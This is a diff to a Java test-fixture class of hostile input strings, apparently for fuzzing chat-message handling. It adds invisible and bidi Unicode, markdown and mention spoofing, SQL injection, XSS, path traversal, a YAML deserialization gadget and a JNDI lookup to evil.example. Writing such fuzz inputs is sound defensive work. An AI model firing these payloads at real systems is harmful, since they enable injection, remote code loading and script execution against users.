@@ -6,8 +6,13 @@ import java.util.function.UnaryOperator;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 
-/** Three hundred and more texts that would do harm if they were taken for more than text: each of some evils in each of some disguises. */
+/** Hundreds of texts that would do harm if they were taken for more than text: each of some evils in each of some disguises. */
 public final class HostileTexts {
+
+    /** What cannot be seen, turns the text around or stands for nothing, as a regular expression's class. */
+    public static final String UNSEEN =
+            "[\\p{Cf}\\p{Cs}\\p{Co}\\p{Cn}\\p{Cc}\\u034F\\u115F\\u1160\\u17B4\\u17B5\\u180B-\\u180F"
+                    + "\\u2800\\u3164\\uFE00-\\uFE0D\\uFFA0\\x{E0100}-\\x{E01EF}&&[^\\n]]";
 
     private static final int LONG = 10_000;
     /** Coprime to their number, so that all have their turn. */
@@ -44,7 +49,24 @@ public final class HostileTexts {
             "{seat} {0} '{'x'}' {n, plural, other {#}} ''",
             "'; DROP TABLE turn; --",
             "\uD83D\uDE00\uD83C\uDFFD\uD83D \uDE00 :smile:",
-            "\u0000\u0007\u001B[31m\u0085\u2028\u2029");
+            "\u0000\u0007\u001B[31m\u0085\u2028\u2029",
+            "<a:wave:123456789012345678> <sound:0:123456789012345678> <t:0:R> <id:guide> <id:browse>",
+            "<https://evil.example> <x@evil.example> <+15551234567> discord://-/settings",
+            "@silent [x](<https://evil.example>)",
+            "> quote\n## heading\n### heading\n  - nested\n* item\n+ item\n12. twelfth",
+            "one\r# heading\r\n-# small\u0085>>> quote\u2028- item\u000B1. first",
+            "** __ ~~ || ` ``` <",
+            "\\`a\\\\`b\\``c\\|\\|hidden\\||",
+            "```ansi\n\u001B[2;31mred\u001B[0m\u009B31m```",
+            "\u2067abc\u2068def\u061C\u200E\u200F\u202Dghi",
+            "a\u115F\u1160\u3164\uFFA0\u2800\u00AD\u034F\u17B4\u17B5\u180B\u180Eb\uFE00\uDB40\uDD00c",
+            "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC7F\uFFF9x\uFFFA\uFFFB\uFFFE\uE000",
+            "\uDE00\uD83Dx\uDBFF",
+            "e" + "\u0301".repeat(25) + "\u20DD\u0488\u0489 \uFDFD",
+            "%s %d %n %1$s ${jndi:ldap://evil.example} {x, plural, one {#} other {{x}}} {x, select, '",
+            "!!java.net.URL [\"http://evil.example\"] &a [*a] ? x : |\n--- %TAG",
+            "\" OR \"\"=\"'); DELETE FROM turn; /* ../../x\\..\\con.txt",
+            "</textarea><script>alert(1)</script><img src=x onerror=alert(1)>&lt;&#64;everyone");
 
     private static final List<UnaryOperator<String>> DISGUISES = List.of(
             text -> text,
